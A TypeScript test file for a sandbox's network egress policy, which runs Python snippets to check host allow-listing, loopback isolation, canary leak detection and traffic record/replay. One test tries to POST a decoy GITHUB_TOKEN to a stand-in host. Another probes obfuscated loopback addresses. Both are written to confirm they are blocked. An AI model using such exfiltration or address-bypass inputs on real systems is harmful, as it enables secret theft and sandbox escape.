import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createSecure } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getCACertificates, setDefaultCACertificates } from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authority } from '../../observe/network/authority.ts';
import { readRecording } from '../../observe/network/egress/recording.ts';
import { sampleOfSource } from '../../sample/load.ts';
import type { Network } from '../backend.ts';
import { LIMIT_PROFILES } from '../limits.ts';
import type { Run } from '../run.ts';
import { createJail } from './jail.ts';

const jail = createJail();
const folder = mkdtempSync(join(tmpdir(), 'glovebox-egress-'));
const heard: string[] = [];
let plain: Server;
let secure: Server;

function answer(server: Server): Promise<Server> {
  server.on('request', (request, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on(
      'end',
      () =>
        heard.push(`${request.method} ${request.headers.host} ${request.url} ${body}`) &&
        response.end(`told ${heard.length}`),
    );
  });
  return new Promise((done) => server.listen(0, '127.0.0.1', () => done(server)));
}

const portOf = (server: Server) => (server.address() as AddressInfo).port;

beforeAll(async () => {
  const { pem, contextFor } = await authority();
  setDefaultCACertificates([...getCACertificates(), pem]);
  const context = await contextFor('b.example');
  plain = await answer(createServer());
  secure = await answer(createSecure({ SNICallback: (_, done) => done(null, context) }));
});
afterAll(async () => {
  await jail.dispose();
  for (const server of [plain, secure]) server.close();
  rmSync(folder, { recursive: true });
});

/** Two names that lead to loopback, which the policy permits by address and port. */
function network(more: Partial<Network> = {}): Network {
  const ports = [portOf(plain), portOf(secure)];
  return {
    mode: 'allow',
    hosts: [`a.example:${ports[0]}`, `b.example:${ports[1]}`],
    addresses: ports.map((port) => `127.0.0.1:${port}`),
    resolve: { 'a.example': '127.0.0.1', 'b.example': '127.0.0.1' },
    ...more,
  };
}

function run(code: string, given: Network, canaries = false): Promise<Run> {
  const limits = { ...LIMIT_PROFILES.default, cpus: 2 };
  return jail.run(sampleOfSource(code, 'python'), { limits, observe: true, network: given, canaries });
}

const ASK = () => `
import urllib.request
for url in ('http://a.example:${portOf(plain)}/one', 'https://b.example:${portOf(secure)}/two'):
    print(urllib.request.urlopen(url, b'said').read())
try: urllib.request.urlopen('http://c.example/')
except OSError as error: print(error.reason)
`;

describe('a jail with a way out', { timeout: 60_000 }, () => {
  it('lets a program speak to the hosts that are named, and to no other', async () => {
    heard.length = 0;
    const result = await run(ASK(), network());
    expect(result.stderr).toBe('');
    expect(result.stdout).toBe("b'told 1'\nb'told 2'\n[Errno -2] Name or service not known\n");
    expect(heard).toEqual([`POST a.example:${portOf(plain)} /one said`, `POST b.example:${portOf(secure)} /two said`]);
    const told = result.conversations?.map(({ protocol, host, outcome, sent, source }) => [
      protocol,
      host,
      outcome,
      sent.text,
      source?.line,
    ]);
    expect(told).toContainEqual(['http', 'a.example', 'allowed', 'said', 4]);
    expect(told).toContainEqual(['tls', 'b.example', 'allowed', '', 4]);
    const denied = result.events.filter(({ outcome, observer }) => outcome === 'denied' && observer === 'kernel');
    expect(new Set(denied.map(({ target }) => target))).toEqual(new Set(['c.example']));
    expect(result.events).toContainEqual(
      expect.objectContaining({ observer: 'kernel', target: `a.example:${portOf(plain)}`, outcome: 'allowed' }),
    );
  });

  it('keeps its own loopback, and the host’s stays closed', async () => {
    heard.length = 0;
    const result = await run(
      `import socket\nfor host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0', '127.1', '2130706433', '0x7f.1', '10.0.2.2'):\n    try: socket.create_connection((host, ${portOf(plain)}), 2).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(host, 'connected')\n    except OSError: pass\n`,
      network(),
    );
    // Of an address that is not its own a connection comes about, and ends unanswered.
    expect(result.stdout).toBe('10.0.2.2 connected\n');
    expect(heard).toEqual([]);
  });

  it('never lets a decoy out, and tells of it', async () => {
    heard.length = 0;
    const result = await run(
      `import os, urllib.request\ntry: urllib.request.urlopen('http://a.example:${portOf(plain)}/', os.environ['GITHUB_TOKEN'].encode())\nexcept OSError as error: print(error)\n`,
      network(),
      true,
    );
    expect(result.stdout).toBe('HTTP Error 403: Forbidden\n');
    expect(heard).toEqual([]);
    expect(result.canaries?.leaks).toContainEqual(
      expect.objectContaining({ canary: '$GITHUB_TOKEN', source: { file: 'stdin.py', line: 2 } }),
    );
    expect(result.events).toContainEqual(
      expect.objectContaining({
        observer: 'network',
        outcome: 'denied',
        detail: expect.objectContaining({ reason: 'the decoy $GITHUB_TOKEN is in what was to be sent' }),
      }),
    );
  });

  it('records what was answered, inside of TLS too, and plays it again without anybody there', async () => {
    heard.length = 0;
    const file = join(folder, 'traffic.json');
    const recorded = await run(ASK(), network({ mode: 'record', file }));
    expect(recorded.stderr).toBe('');
    expect(heard).toHaveLength(2);
    expect(readFileSync(file, 'utf8')).not.toContain('said');
    const recording = readRecording(file);
    expect(recording.map(({ host, tls, method, path }) => [host, tls, method, path])).toEqual([
      ['a.example', undefined, 'POST', '/one'],
      ['b.example', true, 'POST', '/two'],
    ]);
    const replayed = await run(`${ASK()}\nurllib.request.urlopen('http://a.example:${portOf(plain)}/other')\n`, {
      mode: 'replay',
      recording,
    });
    expect(replayed.stdout).toBe(recorded.stdout);
    expect(replayed.stderr).toContain('HTTP Error 403');
    expect(heard).toHaveLength(2);
    expect(replayed.conversations).toContainEqual(
      expect.objectContaining({
        operation: 'GET',
        outcome: 'denied',
        reason: expect.stringMatching(/^GET \/other .* was not recorded$/),
      }),
    );
  });
});
